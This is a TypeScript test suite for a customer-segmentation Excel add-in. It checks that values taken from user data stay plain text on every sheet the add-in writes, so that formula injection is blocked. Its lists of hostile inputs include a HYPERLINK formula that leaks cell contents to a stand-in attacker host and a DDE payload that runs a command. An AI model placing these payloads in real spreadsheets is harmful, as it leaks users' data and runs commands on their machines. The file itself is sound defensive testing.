/**
 * Formula injection (OWASP "CSV Injection": cells starting with = + - @, or a tab or carriage return before them,
 * are run as formulas by spreadsheet programs). Every value the add-in writes that comes from the user's data —
 * customer ids, channel values that name a segment, header names that name a cluster, segment labels renamed in
 * the settings, the "other" group's name — must come back from Excel as the same text, never as a formula: on the
 * segmented sheet, the RFM sheet, the strategy tracker, the migration sheet and the history. Checked through the
 * host's API: a formula there has `values` "" (the host computes nothing) while `formulas` holds "=…".
 */
import ExcelJS from "exceljs";
import { defaultSettings, Settings } from "../../src/engine/config";
import type { CellValue } from "../../src/engine/types";
import { HostWorkbook } from "../../src/xlsx-host";
import { untouched, workbookView } from "./helpers/host-view";
import { runChanges, runSegment } from "./helpers/run";

const SHEET = "客户信息";
const DANGEROUS_IDS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(1)",
  '=HYPERLINK("http://attacker.invalid/?leak="&A1,"点击")',
  "-2+3",
  "+86 138 0000 0000",
  "=cmd|' /C calc'!A0",
  "@@x",
  "=A1",
  "\t=2+2",
  "\r=3+3",
];
/** Cities reach the sheets only as their tier and region labels; the attacks must not get through that way either. */
const CITIES = ["=北京", "+上海", "@成都", "-深圳", "北京", "上海"];
const CHANNELS = ["=线上", "+门店", "@社群", "-电话", "\t=私域"];
const FEATURE = "=评分";
/** One renamed label per RFM code, each an attack. */
const LABELS: Record<string, string> = {
  "111": "=1+1",
  "011": "+重要唤回",
  "101": "-深耕",
  "001": "@挽留",
  "110": "\t=潜力",
  "010": "\r=维持",
  "100": '=HYPERLINK("http://attacker.invalid","新")',
  "000": "-1",
};
const OTHER = "=其他";

/** A customer sheet whose data carries the attacks as text (as a CSV import or a quote-prefixed cell holds them). */
async function workbook(): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(SHEET);
  ws.addRow(["客户ID", "所在城市", "活跃渠道", "近6个月消费频次", "累计消费金额(元)", "上一次购买时间", FEATURE]);
  DANGEROUS_IDS.forEach((id, i) => {
    ws.addRow([
      id,
      CITIES[i % CITIES.length],
      CHANNELS[i % CHANNELS.length],
      1 + ((i * 7) % 13),
      100 + ((i * 379) % 4000),
      new Date(Date.UTC(2024, 0, 1 + ((i * 31) % 150))),
      (i * 17) % 100,
    ]);
    ws.getCell(i + 2, 6).numFmt = "yyyy/m/d";
  });
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

function settings(by: "dimensions" | "rfm"): Settings {
  const s = defaultSettings();
  s.rfm.labels = { ...LABELS };
  s.dimensions = ["channel"];
  s.segments = { by, minShare: 0.1, otherLabel: OTHER };
  s.cluster = { enabled: true, k: 3, features: [FEATURE], seed: 1 };
  return s;
}

interface Written {
  sheet: string;
  address: string;
  value: CellValue;
  formula: CellValue;
  type: string;
}

/** Every cell the add-in wrote: its sheets whole, and its columns on the segmented sheet. */
async function writtenCells(wb: HostWorkbook, sheets: string[], columns: string[]): Promise<Written[]> {
  return wb.run(async (context) => {
    const ranges: { sheet: string; range: Excel.Range }[] = [];
    for (const name of sheets) {
      const used = context.workbook.worksheets.getItem(name).getUsedRange(true);
      used.load("values, formulas, valueTypes, rowIndex, columnIndex");
      ranges.push({ sheet: name, range: used });
    }
    for (const address of columns) {
      const [sheet, a] = address.split("!");
      const r = context.workbook.worksheets.getItem(sheet).getRange(a);
      r.load("values, formulas, valueTypes, rowIndex, columnIndex");
      ranges.push({ sheet, range: r });
    }
    await context.sync();
    const out: Written[] = [];
    for (const { sheet, range } of ranges)
      range.values.forEach((line, i) =>
        line.forEach((value, j) =>
          out.push({
            sheet,
            address: `${sheet}!R${range.rowIndex + i + 1}C${range.columnIndex + j + 1}`,
            value: value as CellValue,
            formula: range.formulas[i][j] as CellValue,
            type: range.valueTypes[i][j],
          })
        )
      );
    return out;
  });
}

describe("formula injection: data written by the add-in stays text", () => {
  test.each(["dimensions", "rfm"] as const)(
    "ids, channels, a cluster feature's header and renamed labels (segments by %s), over two runs",
    async (by) => {
      const wb = await HostWorkbook.fromXlsx(await workbook());
      const before = await workbookView(wb);
      const first = await runSegment(wb, { asOf: "2024-06-01" }, settings(by));
      if (!first.ok) throw new Error(JSON.stringify(first.error));
      // A second period, so that the migration sheet is written too.
      const second = await runSegment(wb, { asOf: "2024-07-01" }, settings(by));
      if (!second.ok) throw new Error(JSON.stringify(second.error));
      const summary = second.summary;
      expect(summary.written.migration.sheet).not.toBeNull();
      expect(summary.customers).toBe(DANGEROUS_IDS.length);

      const own = summary.written.sheets.filter((s) => s !== SHEET);
      const cells = await writtenCells(wb, own, Object.values(summary.written.columnAddresses) as string[]);
      // Not one formula among them: every cell reads back as the value that was written.
      const formulas = cells.filter((c) => c.formula !== c.value);
      expect(formulas).toEqual([]);
      const texts = cells.filter((c) => c.type === "String").map((c) => c.value as string);

      // Each attack is there as its exact text (ids trimmed, as the engine reads them).
      const where = (s: string) => cells.filter((c) => c.value === s).map((c) => c.sheet);
      for (const id of DANGEROUS_IDS) {
        const sheets = new Set(where(id.trim()));
        expect([
          id,
          sheets.has(summary.written.rfmSheet.name),
          sheets.has(summary.written.migration.historySheet),
        ]).toEqual([id, true, true]);
      }
      const used = new Set(summary.segments.filter((s) => s.count > 0).map((s) => s.code));
      // Labels are trimmed like the data (rfm/labels.ts), so a leading tab or CR never reaches a cell.
      for (const [code, raw] of Object.entries(LABELS)) {
        if (!used.has(code)) continue;
        const label = raw.trim();
        const sheets = new Set(where(label));
        expect([code, sheets.has(summary.written.rfmSheet.name), sheets.has(summary.written.trackerSheet)]).toEqual([
          code,
          true,
          true,
        ]);
        // The migration sheet names a segment "011 label": text too.
        expect([code, texts.includes(`${code} ${label}`)]).toEqual([code, true]);
      }
      // Clusters named after the "=评分" header; channel values in the segment labels.
      expect(texts.some((t) => t.startsWith(FEATURE))).toBe(true);
      if (by === "dimensions") expect(texts.some((t) => CHANNELS.some((ch) => t.includes(ch.trim())))).toBe(true);
      // The summary sheet (write-summary.ts) names each segment's top channel: one of the attacks, as text.
      const summarySheet = summary.written.summarySheet;
      expect(own).toContain(summarySheet);
      expect(CHANNELS.some((ch) => where(ch.trim()).includes(summarySheet))).toBe(true);

      // And the user's own attack strings are still text, untouched.
      const after = await workbookView(wb);
      const { allowed, ignoreSheets } = runChanges(summary);
      const same = untouched(before, after, allowed, ignoreSheets);
      expect(same.changes).toEqual([]);
      expect(same.count).toBeGreaterThan(DANGEROUS_IDS.length * 7);
    }
  );

  test("control: the same strings written without the add-in's quote prefix do become formulas on the host", async () => {
    const wb = HostWorkbook.empty();
    const raw = ["=1+1", "+1+1", "-2+3", '=HYPERLINK("http://attacker.invalid","x")', ...Object.values(LABELS)];
    const got = await wb.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Sheet1");
      sheet.getRangeByIndexes(0, 0, raw.length, 1).values = raw.map((s) => [s]);
      const back = sheet.getRangeByIndexes(0, 0, raw.length, 1);
      back.load("values, formulas");
      await context.sync();
      const values = back.values;
      const formulas = back.formulas;
      return raw.map((s, i) => ({ s, value: values[i][0], formula: formulas[i][0] }));
    });
    const asFormula = got.filter((g) => g.value !== g.s);
    // The =, + and - entries are taken as formulas: the check above would see any the add-in let through.
    for (const s of ["=1+1", "+1+1", "-2+3", LABELS["111"], LABELS["100"]])
      expect(asFormula.map((g) => g.s)).toContain(s);
  });
});
